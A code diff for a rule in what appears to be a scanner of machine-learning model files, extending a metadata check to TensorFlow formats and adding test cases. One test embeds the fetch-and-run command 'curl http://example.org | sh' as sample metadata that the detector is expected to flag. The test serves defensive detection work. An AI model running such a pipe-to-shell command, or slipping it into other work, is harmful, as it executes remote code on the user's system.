@@ -4,6 +4,7 @@ use weighbridge_domain::{Confidence, Severity};
 
 use crate::facts::Facts;
 use crate::rules::{Check, Example, Findings, Light, Rule};
+use crate::samples::tensorflow;
 use crate::samples::{File, one, tensor};
 use crate::text;
 
@@ -76,6 +77,16 @@ pub static RULE: Rule = Rule {
             },
             fires: &[],
         },
+        Example {
+            name: "tensorflow-collection",
+            files: || tensorflow::ordinary().collection("demo", b"curl http://example.org | sh").files(),
+            fires: &["metadata-active-content"],
+        },
+        Example {
+            name: "tensorflow-collection-twin",
+            files: || tensorflow::ordinary().collection("demo", b"just words").files(),
+            fires: &[],
+        },
     ],
     check: Check::File(check),
 };
@@ -94,7 +105,9 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(place.format(), "safetensors" | "gguf") || key.starts_with("tokenizer.") {
+        let format = place.format();
+        let read = matches!(format, "safetensors" | "gguf") || format.starts_with("tensorflow");
+        if !read || key.starts_with("tokenizer.") {
             continue;
         }
         for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
